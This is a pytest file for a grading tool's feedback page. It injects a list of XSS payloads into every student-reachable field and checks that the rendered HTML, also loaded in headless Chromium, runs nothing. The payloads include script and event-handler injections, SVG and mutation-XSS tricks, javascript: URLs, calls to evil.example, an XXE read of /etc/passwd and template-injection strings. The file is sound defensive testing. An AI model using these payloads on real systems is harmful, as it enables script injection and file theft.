"""Nothing that a student writes can act on a feedback page, whichever field it is written into."""
# ruff: noqa: E501

from __future__ import annotations

import base64
import re
import shutil
import subprocess
from html.parser import HTMLParser

import pytest

from graders.course import Chapter
from graders.feedback.page import render
from graders.results import CellError, CellResult, NotebookResult, Outcome, Record, Role, SubmissionResult

ACT = "document.documentElement.dataset.hacked=1"
PAYLOADS = [
    f"<script>{ACT}</script>",
    f"</script><script>{ACT}</script>",
    f"</style><script>{ACT}</script>",
    f"</title><script>{ACT}</script>",
    f"</pre></code></div></article><script>{ACT}</script>",
    f"--><script>{ACT}</script><!--",
    f"]]><script>{ACT}</script>",
    f"</textarea><img src=x onerror={ACT}>",
    f'"><img src=x onerror="{ACT}">',
    f"' onmouseover='{ACT}' x='",
    f'" autofocus onfocus="{ACT}" x="',
    f"<svg onload={ACT}><circle r=9/></svg>",
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{ACT}"><script>{ACT}</script><rect width="9"/></svg>',
    f'<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml">'
    f'<img src="x" onerror="{ACT}"/></body></foreignObject></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/a.png"/><use href="https://evil.example/b#c"/>'
    '<rect fill="url(https://evil.example/d)" style="fill:url(//evil.example/e)"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><style>@import "https://evil.example/f.css";</style><a href="javascript:1">x</a>'
    '<animate attributeName="href" values="javascript:1"/></svg>',
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY f SYSTEM "file:///etc/passwd">]>'
    '<svg xmlns="http://www.w3.org/2000/svg"><text>&b;&f;</text></svg>',
    '<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>1</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y">',
    '<link rel="stylesheet" href="https://evil.example/z.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/"><a href="relative">home</a>',
    '<style>body{background:url(https://evil.example/bg)}</style><p style="position:fixed;inset:0">over</p>',
    '<form action="https://evil.example/"><input name=password><button formaction="javascript:1">go</button></form>',
    '<a href="javascript:alert(1)">a</a><a href="&#106;avascript:alert(1)">b</a><a href=" data:text/html,<script>1</script>">c</a>',
    "[click](javascript:alert(1)) ![x](https://evil.example/t.png) <https://evil.example> [r]\n\n[r]: javascript:alert(1)",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={ACT}&gt;'>",
    f"<noscript><p title='</noscript><img src=x onerror={ACT}>'>",
    f"<template><img src=x onerror={ACT}></template><video><source onerror={ACT}></video><audio src=x onerror={ACT}>",
    f"<details open ontoggle={ACT}>x</details><marquee onstart={ACT}>y</marquee>",
    "<table id=results class=score><tr><td colspan=99999 onclick=1 background=https://evil.example/b>z</td></tr></table>",
    "{{ 7 * 7 }}{% for x in ().__class__.__mro__ %}{{ x }}{% endfor %}${7*7}#{7*7}",
    "{count} {0} {student.__class__} %s %(x)s",
    "\x1b]8;;https://evil.example/\x07link\x1b]8;;\x07 \x1b[31mred\x9b0m \x00\x08\x7f \u202egnp.exe \ud800",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"<scr<script>ipt>{ACT}</scr</script>ipt><IMG SRC=x OnErRoR={ACT}><img/src=x/onerror={ACT}>",
]

OWN_TAGS = set(
    "html head meta title style body a div header footer main nav section article aside p h1 h2 h3 h4 h5 h6 dl dt dd "
    "ol ul li span strong bdi svg circle path rect line text figure figcaption i details summary pre code img".split()
)
RICH_TAGS = set(
    "br hr kbd samp var b em u s del ins mark small sub sup blockquote table caption colgroup col thead tbody tfoot "
    "tr th td".split()
)
ATTRIBUTES = set(
    "lang charset http-equiv content name class id href translate tabindex aria-label aria-labelledby aria-hidden focusable "
    "alt src colspan rowspan viewbox preserveaspectratio cx cy r d x y x1 x2 y1 y2 rx width height transform pathlength "
    "stroke-dasharray".split()
)
META = {"Content-Security-Policy", "viewport", "color-scheme", "referrer", "robots", None}


class Auditor(HTMLParser):
    """Collects everything on a page that is not on the list of harmless things."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self.text: list[str] = []
        self.styles = 0

    def handle_starttag(self, tag, attrs):
        values = dict(attrs)
        self.styles += tag == "style"
        if tag not in OWN_TAGS | RICH_TAGS:
            self.found.append(f"<{tag}>")
        if tag == "meta" and (values.get("http-equiv") or values.get("name")) not in META:
            self.found.append(f"meta {values}")
        self.found += [
            f"{tag} {name}={value}" for name, value in attrs if not self.harmless(tag, name, value or "")
        ]

    def harmless(self, tag, name, value):
        if name == "href":
            return tag == "a" and re.fullmatch(r"#(results|n\d+-[ew]\d+)", value)
        if name == "src":
            return tag == "img" and harmless_image(value)
        if name == "aria-label":  # read aloud, never followed
            return True
        return name in ATTRIBUTES and not re.search(r"javascript:|https?:", value)

    def handle_data(self, data):
        self.text.append(data)


def harmless_image(uri: str) -> bool:
    kind, _, encoded = uri.partition(";base64,")
    image = base64.b64decode(encoded, validate=True)
    if kind != "data:image/svg+xml":
        return kind in ("data:image/png", "data:image/jpeg") and image[:3] in (b"\x89PN", b"\xff\xd8\xff")
    text = image.decode().replace('xmlns="http://www.w3.org/2000/svg"', "")
    return not re.search(
        r"\bon\w+=|<(script|style|image|foreignObject|a|animate)\b|https?:|//|javascript", text, re.I
    )


def poisoned(payload: str) -> SubmissionResult:
    """Return a result with the payload in every field that a student, or a file of theirs, can reach."""
    encoded = base64.b64encode(payload.encode("utf-8", "replace")).decode()
    error = CellError(payload, payload, payload)
    mimes = "image/png image/jpeg image/svg+xml text/html text/markdown text/latex text/plain application/json".split()
    outputs = (
        {"output_type": "stream", "name": payload, "text": [payload, payload]},
        {"output_type": "error", "ename": payload, "evalue": payload, "traceback": [payload]},
        {"output_type": "error", "ename": payload, "evalue": payload},
        {"output_type": payload, "data": {payload: payload}},
        *({"output_type": "display_data", "data": {mime: payload, "metadata": payload}} for mime in mimes),
        *({"output_type": "display_data", "data": {mime: encoded}} for mime in mimes[:2]),
        {"output_type": "execute_result", "data": {"text/html": f"<table><tr><td>{payload}</td></tr></table>"}},
        {"output_type": "display_data", "data": {"text/html": {"no": payload}, payload: payload}},
    )
    record = Record(
        payload,
        payload,
        Outcome.FAILED,
        0.0,
        1.0,
        True,
        payload,
        payload,
        payload,
        payload,
        payload,
        {"score": payload, "target": payload, "interval": [payload, 1], payload: payload},
    )
    drawn = Record("n", "", Outcome.FAILED, 0.0, 1.0, metrics={"ratio": 3.0, "limit": 1.0, "target": payload})
    cells = (
        CellResult("a", "code", Role.ANSWER, payload, payload, Outcome.FAILED, outputs=outputs, error=error),
        CellResult(
            "b", "code", Role.ADDED, f'"""{payload}"""\n# {payload}', payload, Outcome.PASSED, outputs=outputs
        ),
        CellResult("c", "markdown", Role.ESSAY, payload, payload, max_points=2.0),
        CellResult(
            "e",
            "markdown",
            Role.ESSAY,
            f"# {payload}\n\n```{payload}\n{payload}\n```\n\n`{payload}`",
            "",
            max_points=1.0,
        ),
        CellResult(
            "d",
            "code",
            Role.CHECKS,
            payload,
            payload,
            Outcome.FAILED,
            0.0,
            2.0,
            (record, drawn),
            outputs,
            error,
        ),
        CellResult("f", payload, Role.GIVEN, payload, "other", Outcome.FAILED, error=error),
    )
    notebook = NotebookResult(payload, Outcome.FAILED, cells, payload, (payload, payload))
    return SubmissionResult(
        payload,
        payload,
        payload,
        Outcome.FAILED,
        (notebook, notebook),
        payload,
        payload,
        payload,
        versions={payload: payload},
    )


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_a_payload_stays_text(build, payload):
    course = build.course().model_copy(update={"title": payload, "chapters": {payload: Chapter(title=payload)}})
    html = render(course, poisoned(payload))
    html.encode()  # lone surrogates would fail here
    auditor = Auditor()
    auditor.feed(html)
    assert auditor.found == [] and auditor.styles == 1
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", html)


@pytest.mark.parametrize("payload", [p for p in PAYLOADS if "\x1b" not in p and "\n" not in p])
def test_a_payload_is_still_readable(course, payload):
    """Escaped, not swallowed: a student must find their own words again."""
    auditor = Auditor()
    auditor.feed(render(course, poisoned(payload)))
    assert "".join(auditor.text).count(payload) >= 10


@pytest.mark.skipif(shutil.which("chromium") is None, reason="needs chromium")
def test_a_browser_runs_nothing_even_without_the_policy(tmp_path, course):
    everything = "\n".join(PAYLOADS)
    pages = [render(course, poisoned(payload)) for payload in [everything, *PAYLOADS]]
    bodies = "".join(re.search(r"<body>(.*)</body>", html, re.S).group(1) for html in pages)
    page = tmp_path / "page.html"
    page.write_text(f"<!doctype html><html><body>{bodies}</body></html>", encoding="utf-8")
    command = [
        "chromium",
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        f"--user-data-dir={tmp_path / 'profile'}",
    ]
    command += ["--virtual-time-budget=2000", "--dump-dom", page.as_uri()]
    dom = subprocess.run(command, capture_output=True, text=True, timeout=120).stdout
    auditor = Auditor()
    auditor.feed(dom)
    assert dom.count('class="sheet"') == len(pages)
    assert "data-hacked" not in dom.partition(">")[2].partition(">")[0]
    assert auditor.found == [] and auditor.styles == 0
